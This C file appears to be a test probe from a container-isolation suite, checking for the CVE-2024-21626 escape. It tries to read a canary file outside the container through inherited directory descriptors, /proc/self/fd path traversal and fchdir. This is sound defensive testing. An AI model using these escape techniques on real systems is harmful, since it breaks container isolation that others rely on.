// CVE-2024-21626: leaves by an inherited folder: fchdir, openat and, with /proc, /proc/self/fd/N/../…; argv[1] is the canary's path.
#include "attack.h"

int main(int argc, char **argv) {
        const char *path = arg(argc, argv, 1);
        char b[4096];
        for (int fd = 0; fd < 1024; fd++) {
                if (file_has_canary(fd, path + 1))
                        escaped("read through descriptor %d", fd);
                snprintf(b, sizeof b, "/proc/self/fd/%d/../../../../../..%s", fd, path);
                if (file_has_canary(AT_FDCWD, b) && fcntl(fd, F_GETFD) >= 0)
                        escaped("read through %s", b);
                if (fchdir(fd) == 0 && file_has_canary(AT_FDCWD, path + 1))
                        escaped("read after fchdir(%d)", fd);
        }
        contained("descriptors that are folders");
}
